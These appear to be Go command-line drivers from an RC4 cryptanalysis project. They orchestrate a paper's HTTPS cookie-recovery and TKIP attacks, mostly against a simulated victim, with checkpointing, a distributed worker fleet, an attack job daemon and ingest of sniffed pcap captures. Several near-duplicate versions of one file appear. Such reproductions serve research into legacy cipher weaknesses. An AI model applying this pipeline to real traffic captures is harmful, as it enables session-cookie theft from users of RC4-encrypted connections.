	if err != nil {
		fatal(err)
	}
	attack.Workers = workers
	if resume != "" {
		resumed, err := tkip.ReadAttackSnapshotFile(resume, model)
		if err != nil {
			fatal(fmt.Errorf("resume %s: %w", resume, err))
		}
		resumed.Workers = workers
		attack = resumed
		fmt.Printf("[fleet] resumed pool %s: %d frames\n", resume, attack.Frames)
	}
	fp, err := model.Fingerprint()
	if err != nil {
		fatal(err)
	}
	oracle := &tkip.TrailerOracle{
		DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
		Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
	}
	return &fleet.TKIPPool{Attack: attack, Model: model}, oracle, fp
}

func writeJSON(enabled bool, attack, mode string, res online.Result, err error) {
	if werr := cliutil.OnlineRunResult(attack, mode, res, err).Emit(enabled); werr != nil {
		fatal(werr)
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "fleetd:", err)
	os.Exit(1)
}
