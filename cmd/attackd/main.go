// Command attackd is the multi-tenant attack service daemon: a long-running
// HTTP/JSON job server that accepts attack configurations (cookie or TKIP,
// model or exact capture), multiplexes the resulting online.Run loops over
// bounded scheduler capacity with fair-share allocation across tenants, and
// persists every job through a content-addressed snapshot store so a
// restart resumes the whole fleet of jobs byte-identically.
//
//	# start the daemon (resumes any persisted jobs in the store)
//	attackd -listen 127.0.0.1:7200 -store /var/lib/attackd -capacity 4
//
//	# submit a §6 cookie job and follow its progress
//	curl -d '{"tenant":"alice","spec":{"attack":"cookie","secret":"C00kie"}}' \
//	     http://127.0.0.1:7200/api/v1/jobs
//	curl http://127.0.0.1:7200/api/v1/jobs/j-0000/stream
//	curl http://127.0.0.1:7200/api/v1/jobs/j-0000/result
//
// SIGTERM (or SIGINT) drains gracefully: admission stops, in-flight
// granules finish, every running job is checkpointed as suspended, and the
// next start resumes them. /metrics serves Prometheus text, /healthz flips
// to 503 once a drain begins.
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"rc4break/internal/obs"
	"rc4break/internal/service"
)

func main() {
	listen := flag.String("listen", "127.0.0.1:7200", "HTTP address for the job API, /metrics and /healthz")
	dir := flag.String("store", "attackd.store", "content-addressed snapshot store directory")
	capacity := flag.Int("capacity", 2, "scheduler slots: concurrent capture granules plus decode rounds")
	tenantMax := flag.Int("tenant-max-active", 0, "per-tenant cap on unfinished jobs (0 = unlimited)")
	maxActive := flag.Int("max-active", 0, "global cap on unfinished jobs (0 = unlimited)")
	jsonOut := flag.Bool("json", false, "emit one CLI-schema JSON result line per finished job on stdout")
	flag.Parse()

	store, err := service.OpenStore(*dir)
	if err != nil {
		fatal(err)
	}
	cfg := service.Config{
		Store:           store,
		Capacity:        *capacity,
		TenantMaxActive: *tenantMax,
		MaxActive:       *maxActive,
		// Job lifecycle spans, served live at /debug/trace{,/chrome}. The
		// journal is a fixed ring, so an always-on tracer is bounded.
		Tracer: obs.NewJournal("attackd", obs.DefaultCapacity),
		Logf: func(format string, args ...interface{}) {
			fmt.Printf("[attackd] "+format+"\n", args...)
		},
	}
	if *jsonOut {
		cfg.Results = os.Stdout
	}
	srv, err := service.New(cfg)
	if err != nil {
		fatal(err)
	}

	l, err := net.Listen("tcp", *listen)
	if err != nil {
		fatal(err)
	}
	hs := &http.Server{Handler: srv.Handler()}
	serveErr := make(chan error, 1)
	go func() { serveErr <- hs.Serve(l) }()
	fmt.Printf("[attackd] job API on http://%s (store %s, capacity %d)\n", l.Addr(), *dir, *capacity)

	if n := srv.Resume(); n > 0 {
		fmt.Printf("[attackd] resumed %d persisted jobs\n", n)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case <-ctx.Done():
		fmt.Println("[attackd] shutdown signal; draining (checkpointing in-flight jobs)")
		srv.Drain()
		shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		_ = hs.Shutdown(shutdownCtx)
	case err := <-serveErr:
		fatal(err)
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "attackd:", err)
	os.Exit(1)
}
