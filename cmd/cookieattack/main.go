// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
// the in-process simulator: craft the aligned request, make the victim's
// browser issue many requests over one persistent RC4 TLS connection,
// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
// differentials against the injected known plaintext), generate the cookie
// candidate list with the charset-restricted list-Viterbi, and brute-force
// it against the server.
//
// Collection is interruptible and distributable, the way the paper's
// multi-hour captures (§6.3: 52 hours for 9·2^27 requests) have to run in
// practice:
//
//	# a checkpointed exact-mode shard; Ctrl-C flushes the snapshot
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -collect-only
//	# resume the killed shard from its checkpoint (same flags + -resume)
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# a second, independently-seeded shard
//	cookieattack -mode model -ciphertexts 4194304 -seed 2 \
//	             -checkpoint shard2.snap -collect-only
//	# merge the shards and run the recovery phase on the pooled evidence
//	cookieattack -ciphertexts 0 -merge shard1.snap,shard2.snap
package main

import (
	"errors"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/snapshot"
	"rc4break/internal/tlsrec"
)

func main() {
	ciphertexts := flag.Uint64("ciphertexts", 9<<27, "total request copies this shard should hold, including resumed ones (paper: 9 x 2^27 for 94%)")
	candidates := flag.Int("candidates", 1<<16, "brute-force list depth (paper: 2^23)")
	secret := flag.String("secret", "Secur3C00kieVal+", "the 16-character secure cookie to recover")
	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for model-mode collection (0 = GOMAXPROCS)")
	checkpoint := flag.String("checkpoint", "", "snapshot file written on completion; exact mode also writes it periodically and on Ctrl-C")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<22, "records between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "snapshot file to resume this shard's collection from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the evidence pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after collection (use with -checkpoint to produce a shard snapshot)")
	flag.Parse()

	if len(*secret) != 16 {
		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
	}
	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", *secret, 64)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", req.CookieOffset(), counterBase)

	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		fatal(err)
	}
	attack.Workers = *workers

	if *resume != "" {
		resumed, err := cookieattack.ReadSnapshotFile(*resume)
		if err != nil {
			fatal(fmt.Errorf("resume %s: %w", *resume, err))
		}
		if resumed.Fingerprint() != attack.Fingerprint() {
			fatal(fmt.Errorf("resume %s: snapshot was captured against a different request layout (check -secret)", *resume))
		}
		resumed.Workers = *workers
		attack = resumed
		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, attack.Records)
	}

	anchors := attack.AnchorsPerPair()
	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))

	var remaining uint64
	if *ciphertexts > attack.Records {
		remaining = *ciphertexts - attack.Records
	}
	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
		remaining, *mode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	start := time.Now()
	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
	switch {
	case remaining == 0:
		fmt.Println("      shard target already reached by resumed evidence")
	case *mode == "exact":
		// An exact-mode shard can only be continued on its own cipher
		// stream: the fast-forward below assumes the snapshot's records
		// came from exactly this victim.
		if attack.Records > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
				attack.Stream.Mode, attack.Stream.Seed, *seed))
		}
		attack.Stream = streamID
		collectExact(attack, req, remaining, *seed, *checkpoint, *checkpointEvery)
	case *mode == "model":
		attack.Stream = streamID
		simSeed := *seed
		if attack.Records > 0 {
			// A topped-up shard must not replay the noise draws already
			// folded into the resumed snapshot (same seed, same sequence):
			// derive a distinct stream from the continuation point.
			simSeed = int64(uint64(*seed) ^ uint64(attack.Records)*0x9E3779B97F4A7C15)
		}
		rng := rand.New(rand.NewSource(simSeed))
		if err := attack.SimulateStatistics(rng, []byte(*secret), remaining); err != nil {
			fatal(err)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
	fmt.Printf("      collected in %v (shard evidence: %d records)\n",
		time.Since(start).Round(time.Millisecond), attack.Records)

	if *checkpoint != "" {
		if err := attack.WriteSnapshotFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("      snapshot -> %s\n", *checkpoint)
	}

	// Shards that captured the same stream (same mode and seed) hold the
	// same observations; merging them would double-count evidence.
	seenStreams := make(map[snapshot.StreamInfo]string)
	if attack.Records > 0 && attack.Stream != (snapshot.StreamInfo{}) {
		seenStreams[attack.Stream] = "this shard"
	}
	for _, path := range cliutil.SplitList(*merge) {
		shard, err := cookieattack.ReadSnapshotFile(path)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		if shard.Stream != (snapshot.StreamInfo{}) {
			if prev, dup := seenStreams[shard.Stream]; dup {
				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its records would be double-counted",
					path, shard.Stream.Mode, shard.Stream.Seed, prev))
			}
			seenStreams[shard.Stream] = path
		}
		if err := attack.Merge(shard); err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		fmt.Printf("      merged %s: +%d records (pool now %d)\n", path, shard.Records, attack.Records)
	}

	if *collectOnly {
		fmt.Println("      collect-only: skipping recovery phase")
		return
	}

	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
	server := &netsim.CookieServer{Secret: []byte(*secret)}
	start = time.Now()
	cookie, rank, err := attack.BruteForce(*candidates, server.Check)
	genTime := time.Since(start)
	if err != nil {
		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
		os.Exit(1)
	}

	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
		genTime.Round(time.Millisecond), cookie, rank, server.Attempts,
		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	if string(cookie) == *secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
}

// collectExact drives the real TLS pipeline: the victim seals requests on a
// persistent connection, the §6.3 scanner reassembles and filters them, and
// the attack folds each record in. The loop checkpoints every
// checkpointEvery records and flushes a final checkpoint on Ctrl-C/SIGTERM,
// so a killed capture resumes exactly where it stopped: the victim derives
// its keys from the shard seed and its cipher stream is fast-forwarded past
// the records the snapshot already holds, making an interrupted-and-resumed
// run byte-identical to an uninterrupted one.
func collectExact(attack *cookieattack.Attack, req httpmodel.Request, remaining uint64, seed int64, checkpoint string, checkpointEvery uint64) {
	master := make([]byte, 48)
	rand.New(rand.NewSource(seed)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		fatal(err)
	}
	if attack.Records > 0 {
		fmt.Printf("      fast-forwarding victim stream past %d resumed records...\n", attack.Records)
		victim.Skip(attack.Records) // raw PRGA skip: no HMAC or record assembly
	}

	// The victim's records flow through the §6.3 stream scanner, which
	// reassembles TLS framing and filters the fixed-size requests.
	collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
	var observeErr error
	err = cliutil.CheckpointLoop{
		Iterations: remaining,
		Path:       checkpoint,
		Every:      checkpointEvery,
		Unit:       "records",
		Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
		Progress:   func() uint64 { return attack.Records },
		Step: func() (bool, error) {
			rec := victim.SendRequest()
			if err := collector.Feed(rec, func(body []byte) {
				if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
					observeErr = err
				}
			}); err != nil {
				return false, err
			}
			return true, observeErr
		},
	}.Run()
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      scanner matched %d records, dropped %d other\n",
		collector.Matched, collector.Other)
}

func minInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x < m {
			m = x
		}
	}
	return m
}

func maxInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x > m {
			m = x
		}
	}
	return m
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "cookieattack:", err)
	os.Exit(1)
}
