// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
// the in-process simulator: craft the aligned request, make the victim's
// browser issue many requests over one persistent RC4 TLS connection,
// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
// differentials against the injected known plaintext), generate the cookie
// candidate list with the charset-restricted list-Viterbi, and brute-force
// it against the server.
package main

import (
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"

	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/tlsrec"
)

func main() {
	ciphertexts := flag.Uint64("ciphertexts", 9<<27, "request copies to collect (paper: 9 x 2^27 for 94%)")
	candidates := flag.Int("candidates", 1<<16, "brute-force list depth (paper: 2^23)")
	secret := flag.String("secret", "Secur3C00kieVal+", "the 16-character secure cookie to recover")
	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
	seed := flag.Int64("seed", 7, "simulation seed")
	flag.Parse()

	if len(*secret) != 16 {
		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
	}
	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", *secret, 64)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", req.CookieOffset(), counterBase)

	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		fatal(err)
	}
	anchors := attack.AnchorsPerPair()
	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))

	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
		*ciphertexts, *mode, float64(*ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	start := time.Now()
	switch *mode {
	case "exact":
		master := make([]byte, 48)
		rand.New(rand.NewSource(*seed)).Read(master)
		victim, err := netsim.NewHTTPSVictim(master, req)
		if err != nil {
			fatal(err)
		}
		// The victim's records flow through the §6.3 stream scanner, which
		// reassembles TLS framing and filters the fixed-size requests.
		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
		var observeErr error
		for i := uint64(0); i < *ciphertexts; i++ {
			rec := victim.SendRequest()
			if err := collector.Feed(rec, func(body []byte) {
				if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
					observeErr = err
				}
			}); err != nil {
				fatal(err)
			}
			if observeErr != nil {
				fatal(observeErr)
			}
		}
		fmt.Printf("      scanner matched %d records, dropped %d other\n",
			collector.Matched, collector.Other)
	case "model":
		rng := rand.New(rand.NewSource(*seed))
		if err := attack.SimulateStatistics(rng, []byte(*secret), *ciphertexts); err != nil {
			fatal(err)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
	fmt.Printf("      collected in %v\n", time.Since(start).Round(time.Millisecond))

	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
	server := &netsim.CookieServer{Secret: []byte(*secret)}
	start = time.Now()
	cookie, rank, err := attack.BruteForce(*candidates, server.Check)
	genTime := time.Since(start)
	if err != nil {
		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
		os.Exit(1)
	}

	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
		genTime.Round(time.Millisecond), cookie, rank, server.Attempts,
		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	if string(cookie) == *secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
}

func minInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x < m {
			m = x
		}
	}
	return m
}

func maxInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x > m {
			m = x
		}
	}
	return m
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "cookieattack:", err)
	os.Exit(1)
}
