// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
// the in-process simulator: craft the aligned request, make the victim's
// browser issue many requests over one persistent RC4 TLS connection,
// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
// differentials against the injected known plaintext), generate the cookie
// candidate list with the charset-restricted list-Viterbi, and brute-force
// it against the server.
//
// Collection is interruptible and distributable, the way the paper's
// multi-hour captures (§6.3: 52 hours for 9·2^27 requests) have to run in
// practice:
//
//	# a checkpointed exact-mode shard; Ctrl-C flushes the snapshot
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -collect-only
//	# resume the killed shard from its checkpoint (same flags + -resume)
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# a second, independently-seeded shard
//	cookieattack -mode model -ciphertexts 4194304 -seed 2 \
//	             -checkpoint shard2.snap -collect-only
//	# merge the shards and run the recovery phase on the pooled evidence
//	cookieattack -ciphertexts 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop the way §6.2 describes — brute-forcing the
// candidate list against the server while capture continues — decoding on a
// cadence and stopping at the first server-confirmed cookie, usually far
// below the fixed budget:
//
//	cookieattack -online                       # geometric cadence 2^20, 2^21, ...
//	cookieattack -online -decode-every 33554432 # decode every 2^25 records
//	# an interrupted online run resumes mid-cadence
//	cookieattack -online -mode exact -checkpoint run.snap -resume run.snap
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run: it joins the cmd/fleetd coordinator, leases disjoint capture lanes,
// and streams each lane's evidence snapshot back until the coordinator
// confirms a cookie (see the fleet package):
//
//	cookieattack -fleet-worker coordinator:7100 -worker-id m1
//
// Trace mode ingests sniffed captures instead of simulating collection —
// the §6.3 pipeline (TCP reassembly, TLS record scanning, fixed-size
// request filtering) over pcap/pcapng files — and -write-pcap produces
// such captures from the simulator (the round trip is pinned bitwise
// against in-process capture):
//
//	cookieattack -write-pcap https.pcapng -ciphertexts 4194304 -seed 1
//	cookieattack -pcap https.pcapng -ciphertexts 4194304 -checkpoint shard.snap -collect-only
//	cookieattack -fleet-worker coordinator:7100 -pcap 'shard-*.pcap'   # serve exact lanes from trace shards
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"os/signal"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/snapshot"
	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

func main() {
	ciphertexts := flag.Uint64("ciphertexts", 9<<27, "total request copies this shard should hold, including resumed ones (paper: 9 x 2^27 for 94%); the online budget")
	candidates := flag.Int("candidates", 1<<16, "brute-force list depth (paper: 2^23)")
	secret := flag.String("secret", "Secur3C00kieVal+", "the 16-character secure cookie to recover")
	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for model-mode collection and decoding (0 = GOMAXPROCS)")
	checkpoint := flag.String("checkpoint", "", "snapshot file written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<22, "records between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "snapshot file to resume this shard's collection from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the evidence pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after collection (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first server-confirmed cookie")
	decodeEvery := flag.Uint64("decode-every", 0, "online: records between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 1<<20, "online: records at the first decode attempt")
	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate list depth per decode round (0 = -candidates)")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest record evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the exact-mode victim stream (-ciphertexts records from -seed) as a capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	if len(*secret) != 16 {
		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
	}
	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", *secret, 64)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", req.CookieOffset(), counterBase)

	cfg := cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	attack, err := cookieattack.New(cfg)
	if err != nil {
		fatal(err)
	}
	attack.Workers = *workers

	if *writePcap != "" {
		if err := writeCookiePcap(*writePcap, req, *seed, *ciphertexts); err != nil {
			fatal(err)
		}
		return
	}
	var pcapPaths []string
	if *pcapIn != "" {
		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
		if err != nil {
			fatal(fmt.Errorf("-pcap: %w", err))
		}
	}

	if *fleetWorker != "" {
		runFleetWorker(*fleetWorker, *workerID, attack.Fingerprint(), cfg, req, *secret, *workers, pcapPaths)
		return
	}

	if *resume != "" {
		resumed, err := cookieattack.ReadSnapshotFile(*resume)
		if err != nil {
			fatal(fmt.Errorf("resume %s: %w", *resume, err))
		}
		if resumed.Fingerprint() != attack.Fingerprint() {
			fatal(fmt.Errorf("resume %s: snapshot was captured against a different request layout (check -secret)", *resume))
		}
		resumed.Workers = *workers
		attack = resumed
		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, attack.Records)
	}

	anchors := attack.AnchorsPerPair()
	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))

	if *onlineMode {
		if *collectOnly || *merge != "" {
			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
		}
		if pcapPaths != nil {
			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
		}
		depth := *maxPerRound
		if depth <= 0 {
			depth = *candidates
		}
		runOnline(attack, req, *secret, *mode, *seed, *ciphertexts,
			online.Cadence{First: *firstDecode, Every: *decodeEvery},
			depth, *checkpoint, *checkpointEvery, *jsonOut)
		return
	}

	var remaining uint64
	if *ciphertexts > attack.Records {
		remaining = *ciphertexts - attack.Records
	}
	displayMode := *mode
	if *pcapIn != "" {
		displayMode = "trace"
	}
	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
		remaining, displayMode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	start := time.Now()
	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
	if pcapPaths != nil {
		// A trace-fed shard's stream identity is the file set: resuming it
		// skips the observations the snapshot already holds, and merging
		// two ingests of the same files is rejected as double-counting.
		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
	}
	switch {
	case remaining == 0:
		fmt.Println("      shard target already reached by resumed evidence")
	case pcapPaths != nil:
		if attack.Records > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
				attack.Stream.Mode, attack.Stream.Seed))
		}
		attack.Stream = streamID
		ingestStart := time.Now()
		stats, err := cookieattack.CollectTraceFiles(attack, len(cfg.Plaintext)+tlsrec.MACSize,
			pcapPaths, attack.Records, remaining, false)
		if err != nil {
			fatal(err)
		}
		fmt.Printf("      trace ingest: %d packets, %d TLS records (%d matched, %d other), %d flows abandoned\n",
			stats.Packets, stats.Records, stats.Matched, stats.OtherRecords, stats.DeadFlows)
		mb := float64(stats.Bytes) / (1 << 20)
		fmt.Printf("      ingested %.1f MB of capture payload at %.1f MB/s\n",
			mb, mb/time.Since(ingestStart).Seconds())
	case *mode == "exact":
		// An exact-mode shard can only be continued on its own cipher
		// stream: the fast-forward below assumes the snapshot's records
		// came from exactly this victim.
		if attack.Records > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
				attack.Stream.Mode, attack.Stream.Seed, *seed))
		}
		attack.Stream = streamID
		collectExact(attack, req, remaining, *seed, *checkpoint, *checkpointEvery)
	case *mode == "model":
		attack.Stream = streamID
		// A topped-up shard must not replay the noise draws already folded
		// into the resumed snapshot (same seed, same sequence): derive a
		// distinct stream from the continuation point.
		rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(*seed, attack.Records)))
		if err := attack.SimulateStatistics(rng, []byte(*secret), remaining); err != nil {
			fatal(err)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
	collectTime := time.Since(start)
	fmt.Printf("      collected in %v (shard evidence: %d records)\n",
		collectTime.Round(time.Millisecond), attack.Records)

	if *checkpoint != "" {
		if err := attack.WriteSnapshotFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("      snapshot -> %s\n", *checkpoint)
	}

	// Shards that captured the same stream (same mode and seed) hold the
	// same observations; merging them would double-count evidence.
	seenStreams := make(map[snapshot.StreamInfo]string)
	if attack.Records > 0 && attack.Stream != (snapshot.StreamInfo{}) {
		seenStreams[attack.Stream] = "this shard"
	}
	for _, path := range cliutil.SplitList(*merge) {
		shard, err := cookieattack.ReadSnapshotFile(path)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		if shard.Stream != (snapshot.StreamInfo{}) {
			if prev, dup := seenStreams[shard.Stream]; dup {
				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its records would be double-counted",
					path, shard.Stream.Mode, shard.Stream.Seed, prev))
			}
			seenStreams[shard.Stream] = path
		}
		if err := attack.Merge(shard); err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		fmt.Printf("      merged %s: +%d records (pool now %d)\n", path, shard.Records, attack.Records)
	}

	if *collectOnly {
		fmt.Println("      collect-only: skipping recovery phase")
		return
	}

	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
	server := &netsim.CookieServer{Secret: []byte(*secret)}
	start = time.Now()
	cands, err := attack.Candidates(*candidates)
	decodeTime := time.Since(start)
	if err != nil {
		fatal(err)
	}
	start = time.Now()
	cookie, rank, err := cookieattack.WalkCandidates(cands, server.Check)
	oracleTime := time.Since(start)
	result := cliutil.RunResult{
		Attack:       "cookie",
		Mode:         displayMode,
		Success:      err == nil,
		Rank:         rank,
		Observations: attack.Records,
		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
		DecodeMS:     float64(decodeTime.Microseconds()) / 1000,
		OracleMS:     float64(oracleTime.Microseconds()) / 1000,
		ElapsedMS:    float64((collectTime + decodeTime + oracleTime).Microseconds()) / 1000,
	}
	if err != nil {
		result.Error = err.Error()
		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
		emitJSON(*jsonOut, result)
		os.Exit(1)
	}
	result.Plaintext = fmt.Sprintf("%x", cookie)

	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
		(decodeTime + oracleTime).Round(time.Millisecond), cookie, rank, server.Attempts,
		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	if string(cookie) == *secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
	emitJSON(*jsonOut, result)
}

// emitJSON writes the machine-readable result as the final stdout line
// when -json is set.
